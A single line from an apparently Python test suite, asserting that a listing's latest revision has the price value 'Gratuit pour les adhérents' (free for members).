    assert listing.get_latest_revision_as_object().price == "Gratuit pour les adhérents"
